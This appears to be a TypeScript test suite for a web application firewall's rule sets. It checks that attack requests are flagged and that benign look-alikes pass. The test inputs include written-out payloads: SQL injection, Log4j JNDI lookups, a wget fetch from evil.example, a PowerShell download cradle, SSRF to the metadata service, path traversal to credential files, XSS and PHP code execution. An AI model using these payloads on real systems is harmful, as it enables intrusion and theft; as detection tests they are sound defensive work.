import { test } from 'node:test';
import assert from 'node:assert/strict';
import { adminProtectionRuleSet, phpRuleSet, wordPressRuleSet } from './app-groups.js';
import { commonRuleSet } from './common.js';
import { anonymousIpRuleSet, ipReputationRuleSet, loadIpLists, parseIpList } from './ip-lists.js';
import { knownBadInputsRuleSet } from './known-bad-inputs.js';
import { linuxRuleSet, unixRuleSet, windowsRuleSet } from './os-groups.js';
import { sqliRuleSet } from './sqli-group.js';
import { inspected, matching } from './test-request.js';

const q = (query: string) => inspected({ path: '/search', query });
const form = (bodyText: string) =>
  inspected({ method: 'POST', path: '/submit', bodyText, headers: [['Host', 'a.example'], ['User-Agent', 'curl/8'], ['Content-Type', 'application/x-www-form-urlencoded']] });
const json = (bodyText: string) =>
  inspected({ method: 'POST', path: '/api', bodyText, headers: [['Host', 'a.example'], ['User-Agent', 'curl/8'], ['Content-Type', 'application/json']] });

test('Common: user agent and size rules', () => {
  assert.deepEqual(matching(commonRuleSet, inspected({ headers: [['Host', 'a.example']] })), ['NoUserAgent_HEADER']);
  assert.deepEqual(matching(commonRuleSet, inspected({ headers: [['Host', 'a.example'], ['User-Agent', 'sqlmap/1.7-dev']] })), ['UserAgent_BadBots_HEADER']);
  assert.deepEqual(matching(commonRuleSet, q('a=' + 'x'.repeat(2047))), ['SizeRestrictions_QUERYSTRING']);
  assert.deepEqual(matching(commonRuleSet, q('a=' + 'x'.repeat(2046))), []);
  assert.deepEqual(matching(commonRuleSet, inspected({ path: '/' + 'p'.repeat(1024) })), ['SizeRestrictions_URIPATH']);
  assert.ok(matching(commonRuleSet, inspected({ method: 'POST', bodyText: 'x', bodyOversize: true })).includes('SizeRestrictions_BODY'));
  assert.ok(matching(commonRuleSet, inspected({ headers: [['User-Agent', 'x'], ['Cookie', 'a=' + 'b'.repeat(10240)]] })).includes('SizeRestrictions_Cookie_HEADER'));
});

test('Common: SSRF to the metadata service, LFI, RFI, restricted extensions, XSS; near misses pass', () => {
  assert.deepEqual(matching(commonRuleSet, q('url=http%3A%2F%2F169.254.169.254%2Flatest%2Fmeta-data%2F')), ['EC2MetaDataSSRF_QUERYARGUMENTS', 'GenericRFI_QUERYARGUMENTS']);
  assert.ok(matching(commonRuleSet, q('u=http://[fd00:ec2::254]/latest')).includes('EC2MetaDataSSRF_QUERYARGUMENTS'));
  assert.ok(matching(commonRuleSet, q('file=..%252f..%252f..%252fetc%252fpasswd')).includes('GenericLFI_QUERYARGUMENTS'));
  assert.ok(matching(commonRuleSet, q('file=%c0%ae%c0%ae/%c0%ae%c0%ae/boot.ini')).includes('GenericLFI_QUERYARGUMENTS'));
  assert.ok(matching(commonRuleSet, inspected({ path: '/static/..%5c..%5cwindows%5cwin.ini' })).includes('GenericLFI_URIPATH'));
  assert.ok(matching(commonRuleSet, inspected({ path: '/app/settings.ini' })).includes('RestrictedExtensions_URIPATH'));
  assert.ok(matching(commonRuleSet, q('inc=http://198.51.100.9/shell.txt')).includes('GenericRFI_QUERYARGUMENTS'));
  assert.ok(matching(commonRuleSet, form('comment=%3Cimg+src%3Dx+onerror%3Dalert(1)%3E')).includes('CrossSiteScripting_BODY'));
  assert.ok(matching(commonRuleSet, q('next=java%0ascript:alert(document.domain)')).includes('CrossSiteScripting_QUERYARGUMENTS'));
  assert.ok(matching(commonRuleSet, q('x=%26lt;script%26gt;x()%26lt;/script%26gt;')).includes('CrossSiteScripting_QUERYARGUMENTS'));
  assert.ok(matching(commonRuleSet, inspected({ headers: [['User-Agent', 'x'], ['Cookie', 'pref="><svg/onload=prompt(1)>']] })).includes('CrossSiteScripting_COOKIE'));
  for (const benign of ['q=p+%3C+0.05+significance', 'q=1%2F2+inch+pipe', 'next=https://shop.example.com/cart', 'q=alert+dialog+design', 'path=/documents/2024/report.pdf'])
    assert.deepEqual(matching(commonRuleSet, q(benign)), [], benign);
  assert.deepEqual(matching(commonRuleSet, form('msg=Lovely+photos!!!+%3C3+xx')), []);
});

test('SQLi: injection grammar in arguments, body and cookies; SQL words in prose pass', () => {
  assert.deepEqual(matching(sqliRuleSet, q("id=1'+OR+'1'='1")), ['SQLi_QUERYARGUMENTS']);
  assert.ok(matching(sqliRuleSet, q('id=-1+UNION+ALL+SELECT+NULL,version()--')).includes('SQLi_QUERYARGUMENTS'));
  // SQL injection in the path (REST routes carry ids there): AWS's SQLi_URIPATH.
  for (const path of ['/1234%20OR%201=1', "/foo')waitfor%20delay'5%3a0%3a20'--", "/items/EmptyValue'%20and%20526=527"]) {
    assert.deepEqual(matching(sqliRuleSet, inspected({ path })), ['SQLi_URIPATH'], path);
  }
  for (const path of ['/blog/select-the-best-union-suit', '/api/v1/orders/1234', '/docs/or-and-not', '/search/drop-shipping']) {
    assert.deepEqual(matching(sqliRuleSet, inspected({ path })), [], path);
  }
  assert.ok(matching(sqliRuleSet, q("name=x'%3Bdrop+table+users--")).includes('SQLi_QUERYARGUMENTS'));
  assert.ok(matching(sqliRuleSet, form('user=admin%27--&pw=x')).includes('SQLi_BODY'));
  assert.ok(matching(sqliRuleSet, json('{"id":"1 and sleep(5)"}')).includes('SQLi_BODY'));
  assert.ok(matching(sqliRuleSet, q('sort=extractvalue(1,concat(0x7e,(select+user())))')).length > 0);
  assert.ok(matching(sqliRuleSet, q('c=1/*!50000union*/+/*!50000select*/+1,2')).includes('SQLi_QUERYARGUMENTS'));
  assert.ok(matching(sqliRuleSet, q('f=benchmark(5000000,md5(1))')).length > 0);
  assert.ok(matching(sqliRuleSet, inspected({ headers: [['User-Agent', 'x'], ['Cookie', "sid=abc' or 1=1 --"]] })).includes('SQLi_COOKIE'));
  for (const benign of ["q=O'Reilly+books", 'q=select+a+plan', 'q=union+station+parking', 'q=order+by+price+low+to+high',
    'q=timeout+OR+refused', 'q=%22drop+table%22+furniture', 'q=having+a+baby+checklist', 'q=rock+%26+roll', "q=what's+new%3F"])
    assert.deepEqual(matching(sqliRuleSet, q(benign)), [], benign);
  assert.deepEqual(matching(sqliRuleSet, json('{"query":"query GetUser($id: ID!) { user(id: $id) { id } }"}')), []);
});

test('KnownBadInputs: Java deserialization, Log4j (nested lookups), localhost, PROPFIND, exploitable paths', () => {
  assert.ok(matching(knownBadInputsRuleSet, inspected({ headers: [['User-Agent', '${${lower:j}${::-n}di:ldap://x.example/a}']] })).includes('Log4JRCE_HEADER'));
  assert.ok(matching(knownBadInputsRuleSet, q('x=%24%7Bjndi%3Armi%3A%2F%2Fevil%2Fo%7D')).includes('Log4JRCE_QUERYSTRING'));
  assert.ok(matching(knownBadInputsRuleSet, json('{"a":"(java.lang.Runtime).getRuntime().exec(\\"id\\")"}')).includes('JavaDeserializationRCE_BODY'));
  assert.ok(matching(knownBadInputsRuleSet, form('obj=rO0ABXNyABdqYXZhLnV0aWwuUHJpb3JpdHlRdWV1ZQ')).includes('JavaDeserializationRCE_BODY'));
  assert.ok(matching(knownBadInputsRuleSet, form('class.module.classLoader.resources.context.parent.pipeline.first.pattern=x')).includes('JavaDeserializationRCE_BODY'));
  assert.ok(matching(knownBadInputsRuleSet, inspected({ headers: [['Host', 'localhost:8080'], ['User-Agent', 'x']] })).includes('Host_localhost_HEADER'));
  assert.ok(matching(knownBadInputsRuleSet, inspected({ method: 'PROPFIND' })).includes('PROPFIND_METHOD'));
  assert.ok(matching(knownBadInputsRuleSet, inspected({ path: '/WEB-INF/web.xml' })).includes('ExploitablePaths_URIPATH'));
  assert.ok(matching(knownBadInputsRuleSet, inspected({ path: '/.git/config' })).includes('ExploitablePaths_URIPATH'));
  assert.deepEqual(matching(knownBadInputsRuleSet, q('q=null+pointer+exception+java')), []);
  assert.deepEqual(matching(knownBadInputsRuleSet, q('price=%24100&note=%24%7Bname%7D')), []);
});

test('Linux, Unix, Windows: files, shell and PowerShell injection; prose passes', () => {
  assert.ok(matching(linuxRuleSet, q('page=%2Fproc%2Fself%2Fenviron')).includes('LFI_QUERYSTRING'));
  assert.ok(matching(linuxRuleSet, inspected({ headers: [['User-Agent', 'x'], ['Referer', '../../../../etc/shadow']] })).includes('LFI_HEADER'));
  assert.ok(matching(unixRuleSet, q('host=8.8.8.8%3Bcat+%2Fetc%2Fpasswd')).includes('UNIXShellCommandsVariables_QUERYARGUMENTS'));
  assert.ok(matching(unixRuleSet, q('h=a%7C%7C%2Fbi%27%27n%2Fw%22%22get+evil.example')).length > 0);
  assert.ok(matching(unixRuleSet, form('ip=127.0.0.1%24(whoami)')).includes('UNIXShellCommandsVariables_BODY'));
  assert.ok(matching(unixRuleSet, q('x=%3Becho+%24%7BHOME%7D')).length > 0);
  assert.ok(matching(windowsRuleSet, q('f=a.txt%7Ctype+%25SYSTEMROOT%25%5Cwin.ini')).includes('WindowsShellCommands_QUERYARGUMENTS'));
  assert.ok(matching(windowsRuleSet, q('c=for+%2Ff+%25i+in+(%27whoami%27)+do+echo+%25i')).includes('WindowsShellCommands_QUERYARGUMENTS'));
  assert.ok(matching(windowsRuleSet, form('x=powershell+-nop+-c+IEX(New-Object+Net.WebClient).DownloadString(%27http://x%27)')).includes('PowerShellCommands_BODY'));
  for (const benign of ['q=cat+food+and+more', 'q=size+10-12', 'msg=Now+20%25+lighter+%26+more+durable', 'q=AT%26T+phone+plans', 'q=if+you+can'])
    for (const g of [unixRuleSet, windowsRuleSet]) assert.deepEqual(matching(g, q(benign)), [], benign);
});

test('PHP: code, superglobals, wrappers, serialized objects, executable uploads', () => {
  assert.ok(matching(phpRuleSet, q('x=%3C%3Fphp+system(%24_GET%5Bc%5D)%3B')).includes('PHPHighRiskMethodsVariables_QUERYSTRING'));
  assert.ok(matching(phpRuleSet, form('f=php%3A%2F%2Ffilter%2Fconvert.base64-encode%2Fresource%3Dindex')).includes('PHPHighRiskMethodsVariables_BODY'));
  assert.ok(matching(phpRuleSet, form('d=O%3A8%3A%22stdClass%22%3A1%3A%7Bs%3A1%3A%22a%22%3Bi%3A1%3B%7D')).length > 0);
  assert.ok(matching(phpRuleSet, q("x=('sys'.'tem')('id')")).length > 0);
  assert.ok(matching(phpRuleSet, inspected({ headers: [['User-Agent', 'x'], ['X-File-Name', 'shell.php5']] })).includes('PHPHighRiskMethodsVariables_HEADER'));
  assert.deepEqual(matching(phpRuleSet, inspected({ path: '/base64_decode' })), ['RampartPHPHighRiskFunctions_URIPATH']);
  assert.deepEqual(matching(phpRuleSet, inspected({ path: '/docs/base64-decoding/index.html' })), []);
  assert.equal(phpRuleSet.rules.at(-1)!.name, 'RampartPHPHighRiskFunctions_URIPATH', "after AWS's rules");
  assert.deepEqual(matching(phpRuleSet, json('{"markdown":"a [link](https://example.com/docs?a=1&b=2)"}')), []);
  assert.deepEqual(matching(phpRuleSet, q('q=%24100+gift+card')), []);
});

test('WordPress and AdminProtection paths', () => {
  assert.deepEqual(matching(wordPressRuleSet, inspected({ path: '/xmlrpc.php' })), ['WordPressExploitablePaths_URIPATH']);
  assert.deepEqual(matching(wordPressRuleSet, q('action=do-reset-wordpress')), ['WordPressExploitableCommands_QUERYSTRING']);
  assert.deepEqual(matching(wordPressRuleSet, inspected({ path: '/blog/2024/xmlrpc-explained' })), []);
  assert.deepEqual(matching(adminProtectionRuleSet, inspected({ path: '/phpmyadmin/index.php' })), ['AdminProtection_URIPATH']);
  assert.deepEqual(matching(adminProtectionRuleSet, inspected({ path: '/administrative-law/books' })), []);
});

test('IP lists: operator files with addresses and CIDRs; absent files are empty lists', async () => {
  const m = parseIpList('# tor exits\n192.0.2.1\n198.51.100.0/24\n2001:db8::/32\nnot-an-ip\n');
  assert.equal(m('192.0.2.1'), true);
  assert.equal(m('::ffff:198.51.100.77'), true);
  assert.equal(m('2001:db8::5'), true);
  assert.equal(m('192.0.2.2'), false);
  const lists = await loadIpLists({ read: async (name) => (name === 'anonymous-ip.txt' ? '203.0.113.0/24' : undefined) });
  assert.deepEqual(matching(anonymousIpRuleSet(lists), inspected()), ['AnonymousIPList']);
  assert.deepEqual(matching(ipReputationRuleSet(lists), inspected()), []);
  assert.equal(ipReputationRuleSet(lists).rules[2]?.action, 'Count');
});

test('PHP: a multipart upload of a file PHP would execute (BODY); other uploads pass', () => {
  const upload = (filename: string) => inspected({
    method: 'POST', path: '/upload', headers: [['Host', 'a.example'], ['User-Agent', 'curl/8'], ['Content-Type', 'multipart/form-data; boundary="b0und"']],
    bodyText: `--b0und\r\nContent-Disposition: form-data; name="doc"; filename="${filename}"\r\nContent-Type: application/octet-stream\r\n\r\nhello\r\n--b0und--\r\n`,
  });
  assert.deepEqual(matching(phpRuleSet, upload('avatar.pHp5')), ['PHPHighRiskMethodsVariables_BODY']);
  assert.deepEqual(matching(phpRuleSet, upload('x.phtml.')), ['PHPHighRiskMethodsVariables_BODY']);
  assert.deepEqual(matching(phpRuleSet, upload('php-notes.txt')), []);
  assert.deepEqual(matching(phpRuleSet, upload('report (final).pdf')), []);
});

test("Common: Rampart's protocol rules after AWS's; a browser's requests match none of them", () => {
  const rampart = (req: Parameters<typeof matching>[1]) => matching(commonRuleSet, req).filter((n) => n.startsWith('Rampart'));
  const browser: [string, string][] = [['Host', 'shop.example.com'], ['User-Agent', 'Mozilla/5.0 (X11; Linux x86_64) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/126.0 Safari/537.36'],
    ['Accept', 'text/html,application/xhtml+xml,application/xml;q=0.9,*/*;q=0.8'], ['Accept-Language', 'en-US,en;q=0.5'], ['Connection', 'keep-alive'],
    ['Referer', 'https://shop.example.com/search?q=caf%C3%A9'], ['Cookie', 'sid=abc; theme=dark']];
  assert.deepEqual(rampart(inspected({ path: '/fr/cat%C3%A9gorie', query: 'q=100%25+coton&page=2', headers: browser })), []);
  assert.deepEqual(rampart(inspected({ method: 'POST', path: '/contact', headers: [...browser, ['Content-Type', 'application/x-www-form-urlencoded; charset=UTF-8']],
    bodyText: 'message=Hi%2C%0D%0AI+ordered+size+10.%0D%0AThanks' })), []);
  const names = commonRuleSet.rules.map((r) => r.name);
  assert.equal(names.indexOf('RampartProtocolAttack_QUERYARGUMENTS'), 22, 'after AWS\'s 22 rules');
  assert.deepEqual(rampart(q('lang=en%0d%0aSet-Cookie:%20sid=attacker')), ['RampartProtocolAttack_QUERYARGUMENTS']);
  assert.deepEqual(rampart(form('user=printer%29%28uid%3D%2A%29')), ['RampartProtocolAttack_BODY']);
  assert.deepEqual(rampart(inspected({ path: '/index.php/PHP%0Ainfo.php' })), ['RampartProtocolAttack_URIPATH']);
  assert.deepEqual(rampart(inspected({ headers: [...browser, ['Proxy', 'http://198.51.100.9:3128']] })), ['RampartProtocolViolation_HEADER']);
  assert.deepEqual(rampart(inspected({ headers: browser, httpVersion: 'HTTP/3.0' })), ['RampartProtocolViolation_HEADER']);
  assert.deepEqual(rampart(inspected({ headers: browser, bodyText: 'hi=test' })), ['RampartProtocolViolation_HEADER'], 'GET with a body');
  assert.deepEqual(rampart(inspected({ headers: [['User-Agent', 'curl/8']] })), ['RampartProtocolViolation_HEADER'], 'no Host');
  assert.deepEqual(rampart(inspected({ headers: [...browser, ['Host', 'internal.example']] })), ['RampartProtocolViolation_HEADER'], 'two Hosts');
  assert.deepEqual(rampart(q('parm=%1G')), ['RampartInvalidEncoding_QUERYSTRING']);
  assert.deepEqual(rampart(inspected({ path: '/a%c0%afb' })), ['RampartInvalidEncoding_URIPATH']);
  assert.deepEqual(rampart(form('param=%7%6F%6D')), ['RampartInvalidEncoding_BODY']);
  assert.deepEqual(rampart(inspected({ headers: [...browser.slice(0, 5), ['Referer', '<script >alert(1);</script>']] })), ['RampartCrossSiteScripting_HEADER']);
  assert.deepEqual(rampart(inspected({ headers: [...browser, ['X-Note', 'anything%00']] })), ['RampartInvalidEncoding_HEADER']);
  assert.deepEqual(rampart(inspected({ headers: [...browser, ['Acunetix-Product', 'WVS/5.0']] })), ['RampartScanner_HEADER']);
  assert.deepEqual(rampart(inspected({ path: '/nessustest', headers: browser })), ['RampartScanner_URIPATH']);
  assert.deepEqual(rampart(inspected({ path: '/', query: 'foo=_%24%24ND_FUNC%24%24_', headers: browser })), ['RampartNodeInjection_QUERYARGUMENTS']);
  assert.deepEqual(rampart(inspected({ method: 'POST', path: '/api', headers: [...browser, ['Content-Type', 'application/json']], bodyText: '{"a":"module.exports=1"}' })), ['RampartNodeInjection_BODY']);
  assert.deepEqual(rampart(inspected({ headers: [...browser.slice(0, 6), ['Cookie', 'profile=eyJyY2UiOiJfJCRORF9GVU5DJCRfZnVuY3Rpb24oKXt9KCkifQ==']] })), ['RampartNodeInjection_COOKIE']);
  // A session identifier in the URL: from another site or with no Referer, fixation; from the site itself, URL rewriting.
  const noReferer = browser.filter(([n]) => n !== 'Referer');
  assert.deepEqual(rampart(inspected({ path: '/login.php', query: 'jsessionid=74B0CB414BD77D17B5680A6386EF1666', headers: noReferer })), ['RampartSessionFixation_QUERYARGUMENTS']);
  assert.deepEqual(rampart(inspected({ path: '/login.php', query: 'jsessionid=74B0CB414BD77D17B5680A6386EF1666', headers: [...noReferer, ['Referer', 'http://www.attackersite.com/test']] })), ['RampartSessionFixation_QUERYARGUMENTS']);
  assert.deepEqual(rampart(inspected({ path: '/login.php', query: 'jsessionid=74B0CB414BD77D17B5680A6386EF1666', headers: browser })), []);
  assert.deepEqual(rampart(inspected({ path: '/checkout/done', query: 'session_id=cs_test_a1b2', headers: noReferer })), []);
  // XML with an external reference in a form field or query argument; an XML body itself (SOAP) is not read so.
  const schemaProbe = '<aai xmlns:xsi="http://www.w3.org/2001/XMLSchema-instance" xsi:schemaLocation="http://a.b/ http://oob.example/aai.xsd">aai</aai>';
  assert.deepEqual(rampart(form(`var=${encodeURIComponent(schemaProbe)}`)), ['RampartXmlExternalReference_BODY']);
  assert.deepEqual(rampart(inspected({ query: `doc=${encodeURIComponent(schemaProbe)}`, headers: browser })), ['RampartXmlExternalReference_QUERYARGUMENTS']);
  assert.deepEqual(rampart(inspected({ method: 'POST', path: '/soap', headers: [...browser, ['Content-Type', 'text/xml; charset=utf-8']], bodyText: schemaProbe })), []);
  // Names that are script sinks: a cookie, a query argument, a form field.
  assert.deepEqual(rampart(inspected({ path: '/baz', headers: [...browser.slice(0, 6), ['Cookie', 'window.location=941180-3']] })), ['RampartCrossSiteScripting_ARGUMENTNAMES']);
  assert.deepEqual(rampart(inspected({ query: 'document.cookie=1', headers: browser })), ['RampartCrossSiteScripting_ARGUMENTNAMES']);
  assert.deepEqual(rampart(form('x.innerHTML=1')), ['RampartCrossSiteScripting_ARGUMENTNAMES']);
  assert.deepEqual(rampart(inspected({ query: 'q=window.location+explained', headers: browser })), [], 'in a value: a search');
  // An HTTP/1.0 POST without a valid Content-Length; with one, or HTTP/1.1 with none, it passes.
  const post10 = (extra: [string, string][]) => inspected({ method: 'POST', httpVersion: 'HTTP/1.0', headers: [...browser, ...extra] });
  assert.deepEqual(rampart(post10([])), ['RampartProtocolViolation_HEADER']);
  assert.deepEqual(rampart(post10([['Content-Length', 'ten']])), ['RampartProtocolViolation_HEADER']);
  assert.deepEqual(rampart(post10([['Content-Length', '0']])), []);
  assert.deepEqual(rampart(inspected({ method: 'POST', headers: browser })), []);
  for (const method of ['TRACE', 'TRACK', 'SUBSCRIBE', 'CONNECT']) assert.deepEqual(rampart(inspected({ method, headers: browser })), ['RampartProtocolViolation_HEADER'], method);
  for (const method of ['PUT', 'PATCH', 'DELETE', 'OPTIONS', 'PROPFIND', 'MKCALENDAR', 'PURGE', 'QUERY']) assert.deepEqual(rampart(inspected({ method, headers: browser })), [], method);
  // Methods no registry knows, a stray character, the wrong case (method names are case-sensitive).
  for (const method of ['TEST', 'FOO', '|GET', 'get', 'GET\\']) assert.deepEqual(rampart(inspected({ method, headers: browser })), ['RampartProtocolViolation_HEADER'], method);
});
